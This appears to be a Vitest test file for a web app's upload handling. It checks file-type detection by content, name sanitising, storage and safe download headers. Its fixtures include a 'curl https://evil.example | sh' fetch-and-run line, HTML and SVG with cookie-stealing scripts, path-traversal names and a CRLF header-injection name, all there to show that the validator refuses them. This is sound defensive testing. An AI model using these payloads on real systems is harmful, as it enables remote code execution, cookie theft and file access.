import { describe, expect, it } from "vitest";
import { getDb } from "~/db/client.server.ts";
import { anonymous } from "~/domain/auth/actor.ts";
import { createActor } from "../../../tests/factories.ts";
import { FILE_MAX_BYTES, FILE_FORM_MAX_BYTES, isFileUploadPath } from "./files.constants.ts";
import { acceptUpload, acceptUploads, readStoredFile, sanitizeFileName, storeFile, storedFileInfos, storedFileResponse } from "./files.server.ts";

const png = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==", "base64");
const pdf = Buffer.from(
  "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
);
const jpeg = Buffer.concat([
  Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
  Buffer.from("JFIF\0\x01\x01\0\0\x01\0\x01\0\0", "binary"),
  Buffer.alloc(64),
  Buffer.from([0xff, 0xd9]),
]);
const webp = Buffer.concat([Buffer.from("RIFF"), Buffer.from([0x24, 0, 0, 0]), Buffer.from("WEBPVP8 "), Buffer.alloc(32)]);
const html = Buffer.from("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>");
const svg = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
const script = Buffer.from("#!/bin/sh\ncurl https://evil.example | sh\n");
const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(60)]);

const file = (bytes: Uint8Array, name: string, type = "application/pdf") => new File([new Uint8Array(bytes)], name, { type });

describe("acceptUpload: only PDF and PNG/JPEG/WebP images, by content", () => {
  it("accepts each type by its bytes and names it by what it is", async () => {
    expect(await acceptUpload(file(pdf, "vedtekter.pdf"))).toMatchObject({ mediaType: "application/pdf", name: "vedtekter.pdf", sizeBytes: pdf.length });
    expect(await acceptUpload(file(png, "logo.PNG", "image/png"))).toMatchObject({ mediaType: "image/png", name: "logo.png" });
    expect(await acceptUpload(file(jpeg, "bilde.jpeg", "image/jpeg"))).toMatchObject({ mediaType: "image/jpeg", name: "bilde.jpeg" });
    expect(await acceptUpload(file(webp, "bilde.webp", "image/webp"))).toMatchObject({ mediaType: "image/webp", name: "bilde.webp" });
  });

  it("takes a PDF called .png, sent as image/png, for the PDF it is", async () => {
    const accepted = await acceptUpload(file(pdf, "skjermbilde.png", "image/png"));
    expect(accepted).toMatchObject({ mediaType: "application/pdf", name: "skjermbilde.pdf" });
  });

  it.each([
    ["an HTML page called .pdf", html, "søknad.pdf", "application/pdf"],
    ["an SVG with a script called .png", svg, "logo.png", "image/png"],
    ["an SVG as itself", svg, "logo.svg", "image/svg+xml"],
    ["a shell script called .pdf", script, "rapport.pdf", "application/pdf"],
    ["a ZIP called .jpg", zip, "bilde.jpg", "image/jpeg"],
    ["plain text called .webp", Buffer.from("hello"), "a.webp", "image/webp"],
  ])("refuses %s", async (_what, bytes, name, type) => {
    await expect(acceptUpload(file(bytes, name, type), { field: "attachment" })).rejects.toBeAppError("validation");
    const error = await acceptUpload(file(bytes, name, type), { field: "attachment" }).catch((e: unknown) => e);
    expect(error).toMatchObject({ fieldErrors: { attachment: { key: "validation.file.type" } } });
  });

  it("refuses a file over the limit before reading it, and one just at the limit is fine", async () => {
    const atLimit = Buffer.concat([pdf, Buffer.alloc(FILE_MAX_BYTES - pdf.length)]);
    expect(await acceptUpload(file(atLimit, "stor.pdf"))).toMatchObject({ sizeBytes: FILE_MAX_BYTES });
    const over = Buffer.concat([atLimit, Buffer.alloc(1)]);
    const error = await acceptUpload(file(over, "for-stor.pdf")).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: "validation", fieldErrors: { file: { key: "validation.file.tooLarge", values: { max: "10 MB" } } } });
  });

  it("refuses an empty file; no file chosen is null, or an error when required", async () => {
    const error = await acceptUpload(file(Buffer.alloc(0), "tom.pdf")).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: "validation", fieldErrors: { file: { key: "validation.file.empty" } } });
    const nothing = new File([], "", { type: "application/octet-stream" });
    expect(await acceptUpload(nothing)).toBeNull();
    expect(await acceptUpload(null)).toBeNull();
    expect(await acceptUpload("vedtekter.pdf")).toBeNull();
    const missing = await acceptUpload(nothing, { required: true }).catch((e: unknown) => e);
    expect(missing).toMatchObject({ code: "validation", fieldErrors: { file: { key: "validation.file.missing" } } });
  });

  it("takes several files from one field, at most three, each checked", async () => {
    const nothing = new File([], "");
    expect(await acceptUploads([nothing])).toEqual([]);
    expect(await acceptUploads([file(pdf, "a.pdf"), file(png, "b.png", "image/png")])).toHaveLength(2);
    await expect(acceptUploads([file(pdf, "a.pdf"), file(pdf, "b.pdf"), file(pdf, "c.pdf"), file(pdf, "d.pdf")])).rejects.toBeAppError("validation");
    await expect(acceptUploads([file(pdf, "a.pdf"), file(html, "b.pdf")])).rejects.toBeAppError("validation");
  });
});

describe("file names", () => {
  it.each([
    ["../../etc/passwd", "application/pdf", "passwd.pdf"],
    ["C:\\Users\\kari\\Documents\\vedtekter.pdf", "application/pdf", "vedtekter.pdf"],
    ["/home/ola/bilder/../logo.png", "image/png", "logo.png"],
    ["..", "application/pdf", "fil.pdf"],
    ["", "image/jpeg", "fil.jpg"],
    [".htaccess", "application/pdf", "htaccess.pdf"],
    ["rapport\u202Efdp.exe", "application/pdf", "rapportfdp.pdf"],
    ['a"b<c>d|e?.pdf', "application/pdf", "abcde.pdf"],
    ["line\r\nContent-Type: text/html.pdf", "application/pdf", "html.pdf"],
    ["søknad om tilskudd.pdf", "application/pdf", "søknad om tilskudd.pdf"],
    ["photo.JPG", "image/jpeg", "photo.jpg"],
    ["noext", "image/webp", "noext.webp"],
  ])("%j as %s → %j", (raw, type, expected) => {
    expect(sanitizeFileName(raw, type as "application/pdf")).toBe(expected);
  });

  it("cuts a very long name but keeps its extension", () => {
    const name = sanitizeFileName(`${"å".repeat(400)}.pdf`, "application/pdf");
    expect(name).toBe(`${"å".repeat(150)}.pdf`);
  });

  it("an upload with path parts in its name is stored under its last part", async () => {
    expect(await acceptUpload(file(pdf, "../../../var/lib/postgres/x.pdf"))).toMatchObject({ name: "x.pdf" });
  });
});

describe("stored files", () => {
  it("are stored in the database with type, size, name, hash and uploader, and read back byte for byte", async () => {
    const actor = await createActor();
    const accepted = (await acceptUpload(file(png, "logo.png", "image/png")))!;
    const id = await getDb().transaction((tx) => storeFile(tx, accepted, actor));
    const stored = await readStoredFile(id);
    expect(stored).toMatchObject({ id, name: "logo.png", mediaType: "image/png", sizeBytes: png.length, sha256: accepted.sha256 });
    expect(Buffer.from(stored!.content).equals(png)).toBe(true);
    expect(accepted.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(await storedFileInfos([id, "not-a-uuid"])).toEqual([
      { id, name: "logo.png", mediaType: "image/png", sizeBytes: png.length, createdAt: expect.any(Date) },
    ]);
    expect(await readStoredFile("not-a-uuid")).toBeNull();
    expect(await readStoredFile("00000000-0000-4000-8000-000000000000")).toBeNull();
    // Anonymous uploads (none today) would have no uploader rather than fail.
    const anonymousId = await getDb().transaction((tx) => storeFile(tx, accepted, anonymous()));
    expect(await readStoredFile(anonymousId)).toMatchObject({ sizeBytes: png.length });
  });

  it("the database refuses a type the upload never accepts, and a size that does not match the content", async () => {
    const accepted = (await acceptUpload(file(pdf, "a.pdf")))!;
    await expect(getDb().transaction((tx) => storeFile(tx, { ...accepted, mediaType: "image/svg+xml" as "image/png" }, anonymous()))).rejects.toThrow();
    await expect(getDb().transaction((tx) => storeFile(tx, { ...accepted, sizeBytes: 1 }, anonymous()))).rejects.toThrow();
  });
});

describe("the download answer", () => {
  it("is an attachment with a safe name, nosniff, a sandbox and no caching", async () => {
    const response = storedFileResponse({ name: 'søknad "x" (1).pdf', mediaType: "application/pdf", content: new Uint8Array(pdf) });
    expect(response.headers.get("Content-Type")).toBe("application/pdf");
    expect(response.headers.get("Content-Disposition")).toBe(`attachment; filename="soknad _x_ _1_.pdf"; filename*=UTF-8''s%C3%B8knad%20%22x%22%20%281%29.pdf`);
    expect(response.headers.get("X-Content-Type-Options")).toBe("nosniff");
    expect(response.headers.get("Content-Security-Policy")).toMatch(/^sandbox/);
    expect(response.headers.get("Cache-Control")).toBe("private, no-store");
    expect(Buffer.from(await response.arrayBuffer()).equals(pdf)).toBe(true);
  });
});

describe("the request-body cap for upload forms", () => {
  it("lets the upload pages' posts (and their .data requests) carry three files at the limit", () => {
    expect(FILE_FORM_MAX_BYTES).toBeGreaterThan(3 * FILE_MAX_BYTES);
    for (const path of ["/veiledning/ny", "/veiledning.data", "/veiledning/abc/svar.data", "/kunnskapsbank/ny"])
      expect(isFileUploadPath(path), path).toBe(true);
    for (const path of ["/veiledningx", "/aktiviteter", "/admin/veiledning"]) expect(isFileUploadPath(path), path).toBe(false);
  });
});
